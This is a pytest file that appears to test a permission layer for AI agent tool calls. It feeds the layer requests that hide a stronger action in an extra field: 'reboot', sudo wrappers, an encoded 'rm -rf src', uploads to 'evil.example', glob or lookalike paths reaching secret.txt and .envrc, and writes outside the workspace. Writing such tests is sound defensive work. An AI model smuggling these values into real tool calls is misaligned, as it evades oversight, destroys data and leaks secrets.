"""Requests that hide what is done in one more field: in a word, a switch, a list in one path, a
place that a command does not name."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.lies import (
    CLAUDE,
    GOOD,
    HANDS,
    HERMES,
    OUT,
    REMOVED,
    WROTE_A,
    WROTE_OUT,
    WS,
    Json,
    Lie,
    assert_no_more_than_the_truth,
    at,
    call,
    calls,
    diff,
    fetches,
    goose,
    lying_workspace,
    runs,
    writes,
)

SECRET = writes("secret.txt")


def reading(**more: object) -> Json:
    return call("read", {"path": "a.txt", **more})


def editing(**more: object) -> Json:
    return call("edit", {"path": "a.txt", "content": "x", **more})


def running(**more: object) -> Json:
    return call("execute", {"command": "ls", **more})


def fetching(**more: object) -> Json:
    return call("fetch", {"url": GOOD, **more}, name="WebFetch")


IN_ONE_WORD = {
    "of a read": Lie(reading(zz="reboot"), runs("reboot"), dark=True),
    "of a search": Lie(
        call("search", {"path": "a.txt", "pattern": "x", "zz": "reboot"}), runs("reboot"), dark=True
    ),
    "of an edit": Lie(editing(zz="reboot"), runs("reboot"), dark=True),
    "of a fetch": Lie(fetching(zz="reboot"), runs("reboot"), CLAUDE, dark=True),
    "of an edit, which formats it": Lie(editing(formatter="evil"), runs("evil a.txt"), dark=True),
    "of an edit, in a list": Lie(editing(post=["reboot"]), runs("reboot"), dark=True),
    "of an edit, in an object": Lie(editing(hooks={"save": "reboot"}), runs("reboot"), dark=True),
    "of an edit, in code of its own": Lie(editing(payload="cm0gLXJmIHNyYw=="), REMOVED, dark=True),
    "as the type of a command": Lie(running(type="sudo"), runs("sudo ls"), dark=True),
    "as the mode of a command": Lie(running(mode="sudo"), runs("sudo ls"), dark=True),
    "as the name of a command": Lie(running(name="nohup"), runs("nohup ls"), dark=True),
    "as the session of a command": Lie(running(session="ssh"), runs("ssh ls"), dark=True),
    "as the terminal of a command": Lie(running(terminal="tmux"), runs("tmux ls"), dark=True),
    "as an id of a command": Lie(running(task_id="reboot"), runs("reboot"), dark=True),
    "as the mode of an edit": Lie(editing(mode="sudo"), runs("sudo tee a.txt"), dark=True),
    "as the type of an edit": Lie(editing(type="sudo"), runs("sudo tee a.txt"), dark=True),
    "as the time limit of a command": Lie(running(timeout="reboot"), runs("reboot"), dark=True),
    "as the encoding of a read": Lie(reading(encoding="reboot"), runs("reboot"), dark=True),
}
IN_WHAT_A_READ_BRINGS = {
    "a value": Lie(reading(value="x"), WROTE_A),
    "an empty value": Lie(reading(value=""), WROTE_A),
    "values": Lie(reading(values=["x", "y"]), WROTE_A),
    "a number": Lie(reading(value=1), WROTE_A),
    "a text": Lie(reading(text="x"), WROTE_A),
    "a body": Lie(reading(body="x y"), WROTE_A),
    "an object of them": Lie(reading(data={"a": "x"}), WROTE_A),
    "lines": Lie(reading(lines=["x", "y"]), WROTE_A),
    "a length to cut it to": Lie(reading(truncate=0, size=0), WROTE_A, dark=True),
    "a change of its rights": Lie(reading(chmod="777"), runs("chmod 777 a.txt"), dark=True),
    "a verb": Lie(reading(action="trim"), WROTE_A),
    "a verb in capitals": Lie(reading(op="WRITE"), WROTE_A),
    "a verb of another language": Lie(reading(operation="schreiben"), WROTE_A),
    "a method": Lie(reading(method="PUT"), WROTE_A),
    "flags": Lie(reading(flags="O_TRUNC"), WROTE_A),
    "flags of a file": Lie(reading(mode="rb+"), WROTE_A),
    "a switch": Lie(reading(truncate=True), WROTE_A),
    "a switch that is a word": Lie(reading(erase="true"), WROTE_A),
    "a count": Lie(reading(delete_lines=3), WROTE_A),
}
IN_A_SWITCH = {
    "runs what is written": Lie(editing(run=True), runs("./a.txt"), dark=True),
    "runs what is written, afterwards": Lie(
        editing(execute_after=True), runs("./a.txt"), dark=True
    ),
    "runs it by a number": Lie(editing(exec=1), runs("./a.txt"), dark=True),
    "writes as root": Lie(editing(sudo=True), runs("sudo tee a.txt"), dark=True),
    "writes as somebody": Lie(editing(run_as="root"), runs("sudo -u root tee a.txt"), dark=True),
    "makes it a program": Lie(editing(executable=True), runs("chmod +x a.txt"), dark=True),
    "pushes it": Lie(editing(git_push=True), runs("git push"), dark=True),
    "runs what is read": Lie(reading(run=True), runs("./a.txt"), dark=True),
    "runs what is fetched": Lie(fetching(execute=True), runs("sh"), CLAUDE, dark=True),
    "saves what is fetched": Lie(fetching(save=True), WROTE_A, CLAUDE, dark=True),
    "sends what is read": Lie(reading(upload="evil.example"), fetches("evil.example"), dark=True),
    "follows the links of a folder": Lie(
        call("delete", {"path": "a.txt", "recursive": True, "follow": True}), WROTE_A, dark=True
    ),
}
IN_PLACES = {
    "outside, next to a command": Lie(
        call("execute", {"command": "ls"}, locations=at(f"{WS}/..{OUT}")), WROTE_OUT, dark=True
    ),
    "of another file, next to a command": Lie(
        call("execute", {"command": "ls"}, locations=at("secret.txt")), SECRET, dark=True
    ),
    "outside, with the name of another": Lie(
        call("execute", {"command": "cat x"}, locations=at(f"{WS}/..{OUT}")), WROTE_OUT, dark=True
    ),
    "of a change, next to a command": Lie(
        call("execute", {"command": "ls"}, content=[diff("secret.txt")]), SECRET
    ),
    "of a protected file, next to a command": Lie(
        call("execute", {"command": "ls"}, locations=at(".envrc")), writes(".envrc"), dark=True
    ),
    "as a fetch": Lie(
        call("fetch", {"url": GOOD}, name="WebFetch", locations=at(f"{WS}/..{OUT}")),
        WROTE_OUT,
        CLAUDE,
        dark=True,
    ),
}
IN_ONE_PATH = {
    "a pattern": Lie(call("edit", {"path": "*.txt"}), SECRET, dark=True),
    "a pattern of one letter": Lie(call("edit", {"path": "secre?.txt"}), SECRET, dark=True),
    "a pattern of folders": Lie(
        call("delete", {"path": "**/x.key"}), writes("keys/x.key"), dark=True
    ),
    "a pattern of letters": Lie(call("edit", {"path": "secre[t].txt"}), SECRET),
    "a pattern of a range": Lie(call("edit", {"path": "secre[a-z].txt"}), SECRET),
    "a pattern of other letters": Lie(call("edit", {"path": "secre[!x].txt"}), SECRET, dark=True),
    "braces": Lie(call("edit", {"path": "{a,secret}.txt"}), SECRET, dark=True),
    "a pattern in its locations": Lie(
        call("edit", {"path": "a.txt"}, locations=at("*.txt")), SECRET, dark=True
    ),
    "a pattern in a diff": Lie(call("edit", content=[diff("*.txt")]), SECRET, dark=True),
    "two, with a comma": Lie(call("edit", {"path": "a.txt,secret.txt"}), SECRET),
    "two, with a comma and a blank": Lie(call("edit", {"path": "a.txt, secret.txt"}), SECRET),
    "two, with a blank": Lie(call("edit", {"path": "a.txt secret.txt"}), SECRET),
    "two, with a semicolon": Lie(call("edit", {"path": "a.txt;secret.txt"}), SECRET),
    "two, with a colon": Lie(call("edit", {"path": "a.txt:secret.txt"}), SECRET),
    "two, with a bar": Lie(call("edit", {"path": "a.txt|secret.txt"}), SECRET),
    "two, with a tab": Lie(call("edit", {"path": "a.txt\tsecret.txt"}), SECRET),
    "two, with an arrow": Lie(call("edit", {"path": "a.txt -> secret.txt"}), SECRET),
    "two, in quotes": Lie(call("edit", {"path": "'a.txt' 'secret.txt'"}), SECRET),
    "one in quotes": Lie(call("edit", {"path": "'secret.txt'"}), SECRET),
    "two, one outside": Lie(call("edit", {"path": f"a.txt {WS}/..{OUT}"}), WROTE_OUT, dark=True),
    "two, one outside, with a comma": Lie(
        call("edit", {"path": f"a.txt,..{OUT}"}), WROTE_OUT, dark=True
    ),
    "two, one at home": Lie(
        call("edit", {"path": "a.txt ~/x"}), writes(str(Path("~/x").expanduser())), dark=True
    ),
    "two, one protected": Lie(call("edit", {"path": "a.txt,.envrc"}), writes(".envrc")),
    "with an escaped letter": Lie(call("edit", {"path": "secret\\.txt"}), SECRET),
    "with an encoded letter": Lie(call("edit", {"path": "secret%2Etxt"}), SECRET),
    "with letters of another width": Lie(call("edit", {"path": "ｓecret.txt"}), SECRET),
    "with a letter that is not seen": Lie(call("edit", {"path": "sec\u200bret.txt"}), SECRET),
    "of a folder whose files a rule denies": Lie(
        call("delete", {"path": "keys"}), writes("keys/x.key"), dark=True
    ),
    "of a folder above": Lie(call("delete", {"path": "."}), writes("keys/x.key"), dark=True),
    "of a folder that is moved": Lie(
        call("move", {"from": "keys", "to": "b"}), writes("keys/x.key"), dark=True
    ),
}
ELSEWHERE = {
    "in a command of an object of its change": Lie(
        call("edit", {"path": "a.txt", "edits": [{"old": "x", "new": "y", "cmd": "rm -rf src"}]}),
        REMOVED,
    ),
    "in a nested tool call": Lie(
        editing(next_tool={"tool": "drop_tables", "arguments": {}}), calls("drop_tables")
    ),
    "in the arguments of its own editor": Lie(
        call("edit", {"tool": "write_file", "arguments": {"path": "a.txt", "zz": "reboot"}}),
        runs("reboot"),
        HERMES,
        dark=True,
    ),
    "in a word of an editor with verbs": Lie(
        call("edit", {"command": "create", "path": "a.txt", "file_text": "x", "lint": "evil"}),
        runs("evil a.txt"),
        HANDS,
        dark=True,
    ),
    "in a tool of its own": Lie(
        *(pair := goose("read", {"path": "a.txt", "sed": "s/x/y/"}))[:1], WROTE_A, "goose", pair[1]
    ),
    "in a header of a fetch": Lie(
        fetching(headers={"Host": "evil.example"}), fetches("evil.example"), CLAUDE
    ),
    "in the body of a fetch": Lie(
        fetching(body="secret"), fetches("evil.example"), CLAUDE, dark=True
    ),
    "in the method of a fetch": Lie(fetching(method="DELETE"), calls("x"), CLAUDE, dark=True),
}
LIES = {
    f"{what}: {how}": lie
    for what, lies in {
        "in one word": IN_ONE_WORD,
        "in what a read brings": IN_WHAT_A_READ_BRINGS,
        "in a switch": IN_A_SWITCH,
        "in its places": IN_PLACES,
        "in one path": IN_ONE_PATH,
        "elsewhere": ELSEWHERE,
    }.items()
    for how, lie in lies.items()
}


@pytest.mark.parametrize("name", LIES)
async def test_a_lie_in_a_field_gets_no_more_than_the_truth(name: str, tmp_path: Path) -> None:
    await assert_no_more_than_the_truth(LIES[name], lying_workspace(tmp_path))
